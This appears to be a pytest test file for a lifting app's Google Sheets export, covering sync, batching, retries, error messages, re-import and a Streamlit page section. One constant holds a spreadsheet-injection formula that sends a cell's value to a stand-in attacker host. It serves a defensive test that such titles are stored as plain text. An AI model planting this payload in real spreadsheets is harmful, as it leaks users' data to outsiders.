"""A lifter's history in a Google Sheet: written, kept up to date and read back, against a local server's Sheets."""

from collections.abc import Iterator
from typing import Any

import pytest
from sqlalchemy import Engine
from streamlit.testing.v1 import AppTest

from database import gsheet_connector
from database.gsheet_connector import Patience
from services.errors import NoSuchLifter
from services.importers import pipeline
from services.importers.google_sheet import Synced, WorksheetTaken, export_to_sheet
from services.importers.preview import SheetUnavailable, preview_sheet
from tests.cast import does, log_of, new_lifter, operation, text_of
from tests.database.test_gsheet import ADDRESS, EMAIL, Day, Formula, Sheets, Worksheet, serving

LOG = """\
2026-01-05 18:30 squat w60x5 100x5@2 100x5@1 plank 60s
2026-01-07 18:30 bench 225lbx3 d185lbx8 carry 40x30m
2026-01-19 18:30 pullup x12 run x5000m"""
FORMULA = '=HYPERLINK("http://evil.example/?"&A2;"click")'


@pytest.fixture
def google(monkeypatch: pytest.MonkeyPatch) -> Iterator[Sheets]:
    """A new spreadsheet, as Google makes one, shared with the service account of this server."""
    # google-auth asks another of Google's servers by itself, in the background: nothing listens at this proxy.
    monkeypatch.setenv("HTTPS_PROXY", "http://127.0.0.1:9")
    with serving() as server:
        server.worksheets = {0: Worksheet("Tabelle1")}
        account = server.account()
        monkeypatch.setattr(gsheet_connector, "service_account", lambda: account)
        monkeypatch.setattr(gsheet_connector, "_secret", lambda: account)
        yield server


@pytest.fixture
def alice(engine: Engine) -> int:
    lifter = new_lifter(engine, "alice")
    log_of(lifter, LOG)
    return lifter


@pytest.fixture
def patient() -> Patience:
    return Patience(pause=lambda seconds: None)


def columns(google: Sheets, title: str, *names: str) -> list[list[Any]]:
    """Some columns of a worksheet, as stored, without the header."""
    header, *rows = google.titled(title).rows
    return [[row[header.index(name)] for name in names] for row in rows]


def test_each_set_is_a_row_as_entered(engine: Engine, alice: int, google: Sheets) -> None:
    assert export_to_sheet(engine, alice, ADDRESS) == Synced(sets=9, weeks=3, changed=9 + 3 + 2)
    found = columns(google, "Workouts", "Date", "Exercise Name", "Set Order", "Weight", "Weight Unit", "Reps", "RPE")
    assert found[:2] == [
        ["2026-01-05 18:30:00", "Squat (Barbell)", "W", 60, "kg", 5, ""],
        ["2026-01-05 18:30:00", "Squat (Barbell)", 2, 100, "kg", 5, 8],
    ]
    assert found[4] == ["2026-01-07 18:30:00", "Bench Press (Barbell)", 1, 225, "lbs", 3, ""]
    assert google.titled("Tabelle1").rows == []


def test_each_week_has_its_workouts_hard_sets_and_tonnage_even_if_there_were_none(
    engine: Engine, google: Sheets
) -> None:
    lifter = new_lifter(engine, "alice")
    log_of(lifter, "2026-01-05 squat w60x5 100x5@2 100x5@1\n2026-01-11 squat 80x10@2\n2026-01-19 squat 102.5x4@1")
    export_to_sheet(engine, lifter, ADDRESS)
    assert google.titled("Weeks").rows == [
        ["Week of", "Workouts", "Hard sets", "Tonnage", "Unit"],
        ["2026-01-05", 2, 3, 1800, "kg"],  # 2 x 100 x 5 + 80 x 10: a warm-up is no tonnage
        ["2026-01-12", 0, 0, 0, "kg"],
        ["2026-01-19", 1, 1, 410, "kg"],
    ]


def test_weeks_begin_and_weigh_as_the_lifter_likes(sqlite_engine: Engine, google: Sheets) -> None:
    lifter = new_lifter(sqlite_engine, "bob", week_start=6, unit="lb")
    log_of(lifter, "2026-01-04 squat 225lbx4@1\n2026-01-05 squat 225lbx4@1")  # a Sunday and a Monday
    export_to_sheet(sqlite_engine, lifter, ADDRESS)
    assert google.titled("Weeks").rows[1:] == [["2026-01-04", 2, 2, 1800, "lb"]]


def test_a_second_time_nothing_is_written(engine: Engine, alice: int, google: Sheets) -> None:
    export_to_sheet(engine, alice, ADDRESS)
    google.asked.clear()
    assert export_to_sheet(engine, alice, ADDRESS) == Synced(sets=9, weeks=3, changed=0)
    assert google.changes == []


def test_only_what_changed_is_written(engine: Engine, alice: int, google: Sheets) -> None:
    export_to_sheet(engine, alice, ADDRESS)
    log_of(alice, "2026-01-20 18:30 deadlift 140x5@1")
    google.batches.clear()
    assert export_to_sheet(engine, alice, ADDRESS) == Synced(sets=10, weeks=3, changed=2)  # the set, and its week
    assert google.batches == [1, 1]
    assert google.titled("Workouts").height >= 11


def test_what_was_deleted_here_is_emptied_there_and_the_lifters_own_columns_stay(
    engine: Engine, google: Sheets
) -> None:
    lifter = new_lifter(engine, "alice")
    _, second = log_of(lifter, "2026-01-05 squat 100x5\n2026-01-12 bench 80x5")
    export_to_sheet(engine, lifter, ADDRESS)
    sheet = google.titled("Workouts")
    sheet.width = 20
    sheet.rows[2] += ["my own remark"]
    does(lifter, operation("delete_workout", second))
    assert export_to_sheet(engine, lifter, ADDRESS) == Synced(sets=1, weeks=1, changed=2)
    assert sheet.rows[2] == [""] * 14 + ["my own remark"]
    assert export_to_sheet(engine, lifter, ADDRESS).changed == 0


def test_a_text_is_never_a_formula(engine: Engine, google: Sheets) -> None:
    lifter = new_lifter(engine, "alice")
    (workout_id,) = log_of(lifter, "2026-01-05 squat 100x5")
    does(lifter, operation("amend_workout", workout_id, title=FORMULA, notes="+1", zone="UTC"))
    export_to_sheet(engine, lifter, ADDRESS)
    cells = [cell for row in google.titled("Workouts").rows for cell in row]
    assert FORMULA in cells
    assert not any(isinstance(cell, Formula) for cell in cells)
    assert export_to_sheet(engine, lifter, ADDRESS).changed == 0


def test_a_long_history_goes_in_batches(sqlite_engine: Engine, google: Sheets, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(gsheet_connector, "CHUNK_ROWS", 4)
    lifter = new_lifter(sqlite_engine, "alice")
    log_of(lifter, LOG)
    export_to_sheet(sqlite_engine, lifter, ADDRESS)
    assert google.batches == [4, 4, 2, 4]  # a header and 9 sets, a header and 3 weeks
    assert export_to_sheet(sqlite_engine, lifter, ADDRESS).changed == 0


@pytest.mark.parametrize("title", ["Workouts", "WEEKS"])
def test_a_worksheet_that_holds_something_else_is_left_alone(sqlite_engine: Engine, google: Sheets, title: str) -> None:
    google.worksheets[7] = Worksheet(title, [["When", "What"], [Day(46027, "05.01.2026"), "Squat"]])
    with pytest.raises(WorksheetTaken, match=f"The worksheet “{title}” of this sheet holds something else"):
        export_to_sheet(sqlite_engine, new_lifter(sqlite_engine), ADDRESS)
    assert google.changes == []


def test_an_empty_worksheet_of_that_name_is_taken_and_made_large_enough(engine: Engine, google: Sheets) -> None:
    lifter = new_lifter(engine, "alice")
    log_of(lifter, LOG)
    google.worksheets = {3: Worksheet("workouts", [], height=2, width=5)}
    export_to_sheet(engine, lifter, ADDRESS)
    assert [one.title for one in google.worksheets.values()] == ["workouts", "Weeks"]
    assert (google.worksheets[3].height, google.worksheets[3].width) == (10, 14)


def test_a_busy_google_is_asked_again(engine: Engine, alice: int, google: Sheets, patient: Patience) -> None:
    google.moods = [429, 200, 503, 200, 200, 429, 500]
    assert export_to_sheet(engine, alice, ADDRESS, patient).changed == 14
    assert export_to_sheet(engine, alice, ADDRESS, patient).changed == 0


def test_a_lost_answer_does_no_harm(engine: Engine, alice: int, google: Sheets, patient: Patience) -> None:
    google.loses_answers = True  # the worksheet is made, and asked for again
    assert export_to_sheet(engine, alice, ADDRESS, patient).changed == 14
    assert [one.title for one in google.worksheets.values()] == ["Tabelle1", "Workouts", "Weeks"]


@pytest.mark.parametrize(
    ("mood", "sentence"),
    [
        ({"status": 403}, f"not shared with {EMAIL}"),
        ({"is_read_only": True}, f"not shared with {EMAIL} for changes. Share it with that address as an editor"),
        ({"status": 404}, "no sheet at this address, or it has been deleted"),
        ({"status": 429}, "allows no more requests at the moment"),
        ({"is_revoked": True}, "no longer accepts this server's service account"),
    ],
)
def test_a_refusal_is_told_as_a_sentence(
    sqlite_engine: Engine, google: Sheets, patient: Patience, mood: dict[str, Any], sentence: str
) -> None:
    for name, value in mood.items():
        setattr(google, name, value)
    with pytest.raises(SheetUnavailable, match=sentence):
        export_to_sheet(sqlite_engine, new_lifter(sqlite_engine), ADDRESS, patient)
    assert len(google.worksheets) == 1


def test_a_refusal_half_way_is_made_good_the_next_time(
    engine: Engine, alice: int, google: Sheets, patient: Patience
) -> None:
    google.moods = [200] * 5 + [403]  # the sets are written, the weeks are not
    with pytest.raises(SheetUnavailable):
        export_to_sheet(engine, alice, ADDRESS, patient)
    assert export_to_sheet(engine, alice, ADDRESS, patient) == Synced(sets=9, weeks=3, changed=4)


def test_nobody_has_no_history(sqlite_engine: Engine, google: Sheets) -> None:
    with pytest.raises(NoSuchLifter):
        export_to_sheet(sqlite_engine, 1, ADDRESS)
    assert google.asked == []


def test_what_was_written_is_imported_set_by_set(engine: Engine, alice: int, google: Sheets) -> None:
    export_to_sheet(engine, alice, ADDRESS)
    shown = preview_sheet(ADDRESS, unit=None, zone="UTC")
    assert (shown.problems, shown.unit_needed) == ((), False)
    bob = new_lifter(engine, "bob")
    assert pipeline.run_import(engine, bob, shown).added == 9
    assert text_of(bob) == text_of(alice)
    again = pipeline.run_import(engine, bob, preview_sheet(ADDRESS, unit=None, zone="UTC"))
    assert (again.added, again.updated, again.unchanged) == (0, 0, 9)


def section() -> None:
    """The page's section on its own."""
    import streamlit as st

    from auth.user import User
    from utils.import_export import google_sheet

    user_id = st.session_state["lifter"]
    google_sheet.draw_google_sheet(
        User(user_id, "alice", "Alice", "kg", 0, "UTC", "en", None, "epley", "dots", True, True, is_admin=False)
    )


@pytest.fixture
def page(app_engine: Engine) -> AppTest:
    lifter = new_lifter(app_engine, "alice")
    log_of(lifter, LOG)
    opened = AppTest.from_function(section, default_timeout=60)
    opened.session_state["lifter"] = lifter
    return opened


def press(page: AppTest, label: str) -> None:
    (found,) = [one for one in page.button if one.label == label]
    found.click().run()
    assert not page.exception


def test_the_section_is_hidden_unless_there_is_a_service_account(
    page: AppTest, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("database.settings.SECRETS", ())
    monkeypatch.delenv(gsheet_connector.FILE, raising=False)
    page.run()
    assert not page.exception
    assert (len(page.subheader), len(page.button)) == (0, 0)


def test_the_section_writes_and_hands_the_address_to_the_import(page: AppTest, google: Sheets) -> None:
    page.run()
    assert "example" in page.caption[0].value
    press(page, "Write to sheet")
    assert "This is not the address of a Google Sheet" in page.error[0].value.replace("\\", "")
    page.text_input[0].set_value(ADDRESS).run()
    press(page, "Write to sheet")
    assert page.success[0].value == "Your sheet holds 9 sets and 3 weeks: 14 of its rows were written."
    press(page, "Write to sheet")
    assert page.success[0].value == "Your sheet holds 9 sets and 3 weeks: nothing had changed."
    press(page, "Import from sheet")
    assert page.session_state["import_sheet"] == ADDRESS
